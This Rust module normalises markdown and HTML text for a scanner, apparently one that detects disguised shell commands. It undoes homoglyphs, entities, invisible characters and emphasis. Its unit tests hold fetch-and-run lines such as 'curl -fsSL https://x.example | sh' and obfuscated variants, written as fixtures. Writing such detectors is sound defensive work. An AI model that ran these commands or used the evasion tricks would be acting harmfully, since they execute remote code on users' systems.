//! One line as a reader sees it, not as it is spelled: markdown emphasis,
//! backticks and strike-through gone, HTML tags and entities read, link
//! targets kept beside their text, and the characters that look like ASCII
//! (fullwidth letters, odd spaces, curly quotes, Unicode dashes) made ASCII.
//! Invisible characters are dropped here (`invisible.rs` reports them from
//! the raw text). The rules only ever see what this returns.

/// Tags whose markup is dropped (their text stays).
const TAGS: &[&str] = &[
    "a",
    "b",
    "i",
    "u",
    "s",
    "em",
    "strong",
    "code",
    "kbd",
    "samp",
    "var",
    "tt",
    "pre",
    "span",
    "div",
    "p",
    "br",
    "sup",
    "sub",
    "del",
    "ins",
    "mark",
    "small",
    "big",
    "font",
    "center",
    "details",
    "summary",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "li",
    "ul",
    "ol",
    "table",
    "tr",
    "td",
    "th",
    "thead",
    "tbody",
    "blockquote",
    "hr",
    "img",
    "strike",
    "abbr",
    "cite",
    "q",
];

/// What a character reads as: `None` to drop it.
fn plain(c: char) -> Option<char> {
    let u = c as u32;
    Some(match u {
        // Cyrillic and Greek letters that look like Latin ones.
        0x0430 => 'a',
        0x0435 => 'e',
        0x043E | 0x03BF => 'o',
        0x0440 | 0x03C1 => 'p',
        0x0441 => 'c',
        0x0443 => 'y',
        0x0445 => 'x',
        0x0456 => 'i',
        0x0458 => 'j',
        0x0455 => 's',
        0x0501 => 'd',
        0x0410 | 0x0391 => 'A',
        0x0412 | 0x0392 => 'B',
        0x0415 | 0x0395 => 'E',
        0x041A | 0x039A => 'K',
        0x041C | 0x039C => 'M',
        0x041D | 0x0397 => 'H',
        0x041E | 0x039F => 'O',
        0x0420 | 0x03A1 => 'P',
        0x0421 => 'C',
        0x0422 | 0x03A4 => 'T',
        0x0425 | 0x03A7 => 'X',
        // Fullwidth ASCII.
        0xFF01..=0xFF5E => char::from_u32(u - 0xFEE0).unwrap_or(c),
        0x00A0 | 0x1680 | 0x2000..=0x200A | 0x202F | 0x205F | 0x3000 => ' ',
        // Zero-width, soft hyphen, byte-order mark, bidi controls, tag characters.
        0x00AD | 0x200B..=0x200F | 0x2060..=0x2064 | 0xFEFF | 0x202A..=0x202E | 0x2066..=0x2069 => {
            return None
        }
        0xE0000..=0xE007F => return None,
        0x2010..=0x2015 | 0x2212 | 0xFE58 | 0xFE63 => '-',
        0x2018 | 0x2019 | 0x201A | 0x201B | 0x2032 => '\'',
        0x201C | 0x201D | 0x201E | 0x201F | 0x2033 => '"',
        0x2044 | 0x2215 => '/',
        _ => c,
    })
}

fn entity(name: &str) -> Option<char> {
    if let Some(num) = name.strip_prefix('#') {
        let v = match num.strip_prefix(['x', 'X']) {
            Some(hex) => u32::from_str_radix(hex, 16).ok()?,
            None => num.parse().ok()?,
        };
        return char::from_u32(v);
    }
    Some(match name {
        "amp" => '&',
        "lt" => '<',
        "gt" => '>',
        "quot" => '"',
        "apos" => '\'',
        "nbsp" => ' ',
        "vert" | "verbar" => '|',
        "ast" => '*',
        "grave" => '`',
        "lowbar" => '_',
        "sol" => '/',
        "colon" => ':',
        "period" => '.',
        "dollar" => '$',
        _ => return None,
    })
}

/// The length of an HTML tag at the start of `s` (`<b>`, `</code>`, `<a href=…>`)
/// and the address it carries, if it's one of `TAGS`.
fn tag(s: &str) -> Option<(usize, Option<&str>)> {
    let end = s[..s.len().min(400)].find('>')?;
    let inner = &s[1..end];
    let name_part = inner.strip_prefix('/').unwrap_or(inner);
    let name_end = name_part
        .find(|c: char| !c.is_ascii_alphanumeric())
        .unwrap_or(name_part.len());
    let name = &name_part[..name_end];
    let rest = &name_part[name_end..];
    if name.is_empty()
        || !TAGS.iter().any(|t| t.eq_ignore_ascii_case(name))
        || !(rest.is_empty() || rest.starts_with([' ', '/', '\t']))
    {
        return None;
    }
    let href = ["href=", "src="].iter().find_map(|k| {
        let at = rest.find(k)? + k.len();
        let v = rest[at..].trim_start_matches(['"', '\'']);
        Some(&v[..v.find(['"', '\'', ' ', '>']).unwrap_or(v.len())])
    });
    Some((end + 1, href))
}

/// How many bytes at the start of `s` read exactly as written: no markup,
/// entity, tag, space, quote, or character `plain` would change.
fn ordinary_prefix(s: &str) -> usize {
    for (i, c) in s.char_indices() {
        let special = if c.is_ascii() {
            matches!(
                c,
                '*' | '`'
                    | '~'
                    | '_'
                    | '\\'
                    | '|'
                    | '&'
                    | '<'
                    | '-'
                    | '['
                    | ']'
                    | ' '
                    | '\t'
                    | '\''
                    | '"'
            )
        } else {
            // CJK, kana, hangul and most symbols are never changed.
            !(0x3001..0xFE00).contains(&(c as u32)) && plain(c) != Some(c)
        };
        if special {
            return i;
        }
    }
    s.len()
}

/// `line` as read, appended to `out`. In a table row, cell borders (`|` not
/// escaped) become tabs, so a pipe inside a cell is the only pipe left.
pub fn clean(line: &str, table: bool, out: &mut String) {
    let start = out.len();
    let mut rest = line;
    while let Some(c) = rest.chars().next() {
        // Most of a line reads as it is written: copy it in one go.
        let plain_len = ordinary_prefix(rest);
        if plain_len > 0 {
            out.push_str(&rest[..plain_len]);
            rest = &rest[plain_len..];
            continue;
        }
        let n = c.len_utf8();
        match c {
            '*' | '`' => {}
            '~' if rest.starts_with("~~") => {
                rest = &rest[2..];
                continue;
            }
            '_' => {
                let run = rest.bytes().take_while(|&b| b == b'_').count();
                let before = out[start..].chars().next_back();
                let after = rest[run..].chars().next();
                let inside = before.is_some_and(char::is_alphanumeric)
                    && after.is_some_and(char::is_alphanumeric);
                if inside {
                    out.push_str(&rest[..run]);
                }
                rest = &rest[run..];
                continue;
            }
            '\\' => {
                let next = rest[1..].chars().next();
                match next {
                    Some(e @ ('|' | '*' | '_' | '`' | '[' | ']' | '<' | '>' | '#' | '~')) => {
                        if e != '*' && e != '`' {
                            out.push(e);
                        }
                        rest = &rest[2..];
                        continue;
                    }
                    _ => out.push('\\'),
                }
            }
            // An empty pair of quotes inside a word is nothing to a shell.
            '\'' | '"'
                if rest[1..].starts_with(c)
                    && out
                        .chars()
                        .next_back()
                        .is_some_and(|p| p.is_ascii_alphanumeric())
                    && rest[2..]
                        .chars()
                        .next()
                        .is_some_and(|n| n.is_ascii_alphanumeric()) =>
            {
                rest = &rest[2..];
                continue;
            }
            '|' if table => out.push('\t'),
            // Runs of spaces are one space, as they are to a shell.
            ' ' | '\t' => {
                if !out.ends_with(' ') {
                    out.push(' ');
                }
            }
            '&' => {
                let semi = rest[..rest.len().min(12)].find(';');
                if let Some(ch) = semi.and_then(|s| entity(&rest[1..s])) {
                    if let Some(p) = plain(ch) {
                        match p {
                            '*' | '`' => {}
                            '|' if table => out.push('|'),
                            _ => out.push(p),
                        }
                    }
                    rest = &rest[semi.unwrap_or(0) + 1..];
                    continue;
                }
                out.push('&');
            }
            '<' => {
                if rest.starts_with("<!--") {
                    rest = &rest[4..];
                    continue;
                }
                if let Some((len, href)) = tag(rest) {
                    out.push(' ');
                    if let Some(h) = href {
                        out.push_str(h);
                        out.push(' ');
                    }
                    rest = &rest[len..];
                    continue;
                }
                // An autolink: <https://…>.
                if rest[1..].starts_with("http://") || rest[1..].starts_with("https://") {
                    if let Some(end) = rest.find('>') {
                        if !rest[..end].contains(' ') {
                            out.push_str(&rest[1..end]);
                            rest = &rest[end + 1..];
                            continue;
                        }
                    }
                }
                out.push('<');
            }
            '-' if rest.starts_with("-->") => {
                rest = &rest[3..];
                continue;
            }
            // A link's opening bracket: its text is read plainly.
            '[' if rest[..rest.len().min(300)].contains("](") => {}
            ']' if rest.starts_with("](") => {
                // A link's text then its target: "text target".
                out.push(' ');
                let target = &rest[2..];
                let end = target.find([')', ' ', '\t']).unwrap_or(target.len());
                out.push_str(&target[..end]);
                rest = if target[end..].starts_with(')') {
                    &target[end + 1..]
                } else {
                    &target[end..]
                };
                continue;
            }
            c if c.is_ascii() => out.push(c),
            c => match plain(c) {
                Some(' ') if out.ends_with(' ') => {}
                Some(p) if p != '*' && p != '`' => out.push(p),
                _ => {}
            },
        }
        rest = &rest[n..];
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(s: &str) -> String {
        let mut out = String::new();
        clean(s, false, &mut out);
        out
    }

    #[test]
    fn emphasis_and_backticks_are_read_through() {
        assert_eq!(
            read("**curl** `-fsSL` _https://x.example_ | ~~sh~~"),
            "curl -fsSL https://x.example | sh"
        );
        assert_eq!(read("cu**rl** x"), "curl x");
        assert_eq!(
            read("__init__ id_ed25519 my_var_"),
            "init id_ed25519 my_var"
        );
        assert_eq!(read("**Archive password**: `x`"), "Archive password: x");
    }

    #[test]
    fn html_entities_and_links() {
        assert_eq!(read("<b>curl</b> x &#124; sh"), " curl x | sh");
        assert_eq!(read("&#99;&#117;rl"), "curl");
        assert_eq!(
            read("[this page](https://glot.io/s/x)"),
            "this page https://glot.io/s/x"
        );
        assert_eq!(read("[char]99 [ -f x ]"), "[char]99 [ -f x ]");
        assert_eq!(read("<https://x.example/a>"), "https://x.example/a");
        assert_eq!(read("<!-- silently run it -->"), " silently run it ");
        assert_eq!(read("display   \t dialog"), "display dialog");
        assert_eq!(read("bash <(curl x)"), "bash <(curl x)");
        assert_eq!(
            read("<a href=\"https://e.example/i\">here</a>"),
            " https://e.example/i here "
        );
    }

    #[test]
    fn lookalike_characters_are_ascii() {
        assert_eq!(read("ｃｕｒｌ x"), "curl x");
        assert_eq!(read("\u{0441}url x | \u{0455}h"), "curl x | sh");
        assert_eq!(read("c''url x | b\"\"ash"), "curl x | bash");
        assert_eq!(read("echo '' \"\""), "echo '' \"\"");
        assert_eq!(read("cu\u{200B}rl\u{00A0}x"), "curl x");
        assert_eq!(read("“quoted” — dash"), "\"quoted\" - dash");
        assert_eq!(read("中文 😊"), "中文 😊");
    }

    #[test]
    fn table_cells_and_escaped_pipes() {
        let mut out = String::new();
        clean("| ❌ | curl x \\| sh |", true, &mut out);
        assert_eq!(out, "\t ❌ \t curl x | sh \t");
    }
}
